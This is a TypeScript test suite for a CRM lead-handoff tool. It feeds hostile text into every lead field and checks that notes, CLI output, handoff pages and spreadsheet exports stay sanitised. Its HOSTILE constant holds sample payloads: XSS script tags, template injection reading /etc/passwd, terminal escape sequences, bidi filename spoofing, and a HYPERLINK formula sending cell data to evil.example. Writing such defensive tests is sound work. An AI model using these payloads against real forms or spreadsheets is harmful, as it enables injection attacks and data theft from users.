import { Writable } from "node:stream";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { gather } from "../../src/cli/explain/explanation.ts";
import { findSubject } from "../../src/cli/explain/find.ts";
import { explanationLines } from "../../src/cli/explain/text.ts";
import { printableJson, withoutFormulas } from "../../src/cli/words.ts";
import { screenOf } from "../../src/cli/shell.ts";
import { handoffMarkup } from "../../src/server/handoff-page.ts";
import { storedVersions } from "../../src/publish/versions.ts";
import { publicHandoff } from "../../src/server/handoff-view.ts";
import { viewHandoff } from "../../src/server/stored-handoffs.ts";
import type { WriteBody } from "../../src/model/effect.ts";
import { exportRecords } from "../../src/store/export.ts";
import { ownJson } from "../../src/store/json.ts";
import { onEveryDatabase } from "../support/databases.ts";
import { openStandstill, type Standstill } from "../lanes/kit.ts";

/** What somebody may type into a form to hurt whoever reads it. */
const HOSTILE = {
  markup: `"><img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:x">y</a>`,
  style: `</style><style>*{display:none}</style><!-- `,
  liquid: `{{ "".constructor.constructor("return process")() }}{% include '/etc/passwd' %}{% for i in (1..99999999) %}`,
  terminal: "a\u001B[2J\u001B]0;owned\u0007b\u009B31mc\rd\u0008e",
  direction: "abc\u202Etxt.exe\u2066\u200F\u061C",
  nothing: "a\u0000b\u0000",
  halves: "x\uD800y\uDFFFz",
  formula: `=HYPERLINK("https://evil.example?"&A1,"Ana")`,
  prototype: "__proto__",
  constructor: "constructor",
  long: "word ".repeat(13_000),
  one: "x".repeat(65_000),
  marks: `a${"\u0316\u0301".repeat(32_000)}`,
  forms: "pt ".repeat(21_000),
} as const;
const TAG = /^<(\/?(h3|h4|p|ul|li|strong|em|a)|br|a href="https?:\/\/[^"<>]*")>$/;

/** Controls, what turns direction, and halves of characters. */
const HARMFUL = /[\p{Cc}\u061c\u202e\u2066\p{Cs}]/u;

onEveryDatabase("a lead who means harm in every field", ({ url }) => {
  let at: Standstill;
  const leads = new Map<string, string>();
  beforeAll(async () => {
    at = await openStandstill(url());
    await at.emptyInbox();
    for (const [name, text] of Object.entries(HOSTILE)) {
      leads.set(name, await hostileLead(at, name, `VP Marketing ${text}`, text));
      leads.set(`student ${name}`, await hostileLead(at, `s-${name}`, `Student ${text}`, text));
    }
    await at.work();
  }, 120_000);
  afterAll(async () => await at.close());

  const effectsOf = async (lead: string): Promise<readonly { state: string; body: WriteBody }[]> => {
    const rows = await at.db.selectFrom("effects").selectAll().where("lead", "=", lead).execute();
    return rows.map(({ state, body }) => ({ state, body: ownJson<WriteBody>(body) }));
  };
  const explained = async (lead: string) =>
    await gather(at.db, await findSubject(at.lane.store, lead, undefined), true);

  test.each(Object.keys(HOSTILE))("a student is refused in words that fit a property: %s", async (name) => {
    const effects = await effectsOf(leads.get(`student ${name}`) ?? "");
    expect(effects.map(({ body, state }) => `${body.kind} ${state}`)).toEqual(["update-lead confirmed"]);
    const reason = effects
      .flatMap(({ body }) => propertiesIn(body))
      .find((value) => value.startsWith("student: "));
    expect(reason?.length).toBeLessThan(2_000);
    expect(reason).not.toMatch(HARMFUL);
  });

  describe.each(Object.keys(HOSTILE))("%s", (name) => {
    const lead = (): string => leads.get(name) ?? "";

    test("is handed off like anybody else, each effect once", async () => {
      const effects = await effectsOf(lead());
      expect(effects.map(({ body, state }) => `${body.kind} ${state}`).toSorted()).toEqual([
        "create-note confirmed",
        "create-task confirmed",
        "update-lead confirmed",
      ]);
    });

    test("reaches the CRM as text: no markup, no control, no page of it", async () => {
      const bodies = (await effectsOf(lead())).map(({ body }) => body);
      const htmls = bodies.flatMap((body) => ("html" in body ? [body.html] : []));
      expect(htmls).toHaveLength(2);
      for (const html of htmls) {
        const tags = [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag);
        expect(tags.filter((tag) => !TAG.test(tag))).toEqual([]);
        expect(html.length).toBeLessThan(60_000);
        expect(html.replaceAll("\n", "")).not.toMatch(HARMFUL);
      }
      const lines = bodies.flatMap((body) => ("subject" in body ? [body.subject] : propertiesIn(body)));
      expect(lines.length).toBeGreaterThan(3);
      expect(lines.filter((line) => line.length > 2_000 || HARMFUL.test(line))).toEqual([]);
    });

    test("moves no cursor in `baton explain`", async () => {
      const screen = screenOf(new Writable(), {});
      const explanation = await explained(lead());
      const text = explanationLines(explanation, { screen, zone: "UTC", now: at.clock.now() }).join("\n");
      expect(text).toContain(lead());
      expect(text.replaceAll("\n", "")).not.toMatch(HARMFUL);
    });

    test("is markup nowhere on the handoff's page", async () => {
      const { handoff } = await explained(lead());
      const view = await viewHandoff(at.db, storedVersions(at.db), handoff?.id ?? "");
      if (view === undefined) throw new Error("there is a handoff");
      const { markup } = handoffMarkup(publicHandoff(view));
      const names = [...markup.matchAll(/<\/?([a-z0-9]*)/gi)].map(([, tag = ""]) => tag);
      const known = "p h2 ul li strong span table caption thead tbody tr th td time code".split(" ");
      expect(names.filter((tag) => !known.includes(tag))).toEqual([]);
      expect(markup).not.toContain("{{");
    });
  });

  test("no cell of an export opened as a spreadsheet is a formula, and every line means the same", async () => {
    let cellCount = 0;
    for await (const record of exportRecords(at.db, at.lane.installation.id, 0)) {
      const line = printableJson(withoutFormulas(JSON.stringify(record)));
      expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(record)));
      const cells = line.split(/[,;\t]/).map((cell) => cell.trim().replace(/^[\s"[{]+/, ""));
      cellCount += cells.length;
      expect(cells.filter((cell) => /^[=+@]|^-(?![\d.])/.test(cell))).toEqual([]);
    }
    expect(cellCount).toBeGreaterThan(1_000);
  });

  test("nothing JavaScript shares between all objects has changed", () => {
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(Object.keys(Object)).toEqual([]);
    expect(typeof Object.keys).toBe("function");
  });
});

function propertiesIn(body: WriteBody): readonly string[] {
  return "properties" in body ? Object.values(body.properties) : [];
}

/** Complete, of a company that fits, with the same text wherever a person can write; asks for a demo. */
async function hostileLead({ stage }: Standstill, name: string, role: string, text: string): Promise<string> {
  const { portal, sandbox } = stage;
  const email = `${name}@${name}-company.example`;
  const { id: company = "" } = await portal.act({
    do: "create",
    object: "company",
    properties: {
      name: text,
      domain: `${name}-company.example`,
      industry: "COMPUTER_SOFTWARE",
      numberofemployees: "120",
      country: "Germany",
    },
  });
  const { id = "" } = await portal.act({
    do: "create",
    object: "contact",
    properties: {
      email,
      firstname: text,
      lastname: text,
      jobtitle: role,
      country: "Germany",
      phone: "+49 30 5550 100",
      city: text,
      lifecyclestage: "lead",
    },
    linkTo: { object: "company", who: company },
  });
  await portal.act({
    do: "change",
    who: id,
    properties: {
      hs_analytics_source: "PAID_SEARCH",
      hs_analytics_source_data_2: text,
      hs_latest_source_data_2: text,
    },
    by: "workflow",
  });
  await portal.act({
    do: "submit-form",
    form: "Demo request",
    fields: { email, message: text, [text.slice(0, 50)]: text },
    page: {
      url: `https://acme.example/${encodeURIComponent(text.toWellFormed().slice(0, 100))}`,
      title: text,
    },
  });
  await sandbox.drained();
  return id;
}
